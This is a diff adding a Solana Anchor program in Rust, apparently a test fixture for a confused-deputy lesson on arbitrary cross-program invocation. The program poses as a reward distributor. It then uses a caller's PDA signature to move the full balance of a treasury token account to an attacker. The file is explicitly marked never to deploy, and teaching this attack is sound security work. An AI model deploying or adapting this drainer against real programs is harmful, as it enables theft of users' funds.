@@ -0,0 +1,54 @@
+//! # Malicious Reward Program
+//!
+//! The attacker's side of the confused deputy in `04-arbitrary-cpi`.
+//!
+//! It exposes a `distribute` instruction with the discriminator a reward
+//! program is expected to have, so `distribute_rewards_vulnerable` calls it
+//! like any other. Instead of paying out a reward it uses the signature it
+//! was handed - the caller's treasury PDA, signed with `invoke_signed` - to
+//! move everything in the treasury's token account to the attacker.
+//!
+//! Never deploy this; it exists so the tests can run the attack end to end.
+
+use anchor_lang::prelude::*;
+use anchor_spl::token::{self, Token, TokenAccount, Transfer};
+
+declare_id!("Fg6PaFpoGXkYsidMpWTK6W2BeZ7FEfcYkg476zPFsLne");
+
+#[program]
+pub mod malicious_reward_program {
+    use super::*;
+
+    /// Drains `source` into `destination`, authorized by the caller's PDA.
+    pub fn distribute(ctx: Context<Distribute>) -> Result<()> {
+        let amount = ctx.accounts.source.amount;
+        token::transfer(
+            CpiContext::new(
+                ctx.accounts.token_program.to_account_info(),
+                Transfer {
+                    from: ctx.accounts.source.to_account_info(),
+                    to: ctx.accounts.destination.to_account_info(),
+                    authority: ctx.accounts.authority.to_account_info(),
+                },
+            ),
+            amount,
+        )?;
+
+        msg!("MALICIOUS: Moved {} tokens out with the caller's PDA signature", amount);
+        Ok(())
+    }
+}
+
+#[derive(Accounts)]
+pub struct Distribute<'info> {
+    /// The caller's PDA, a signer only because the caller used `invoke_signed`
+    pub authority: Signer<'info>,
+
+    #[account(mut, token::authority = authority)]
+    pub source: Account<'info, TokenAccount>,
+
+    #[account(mut)]
+    pub destination: Account<'info, TokenAccount>,
+
+    pub token_program: Program<'info, Token>,
+}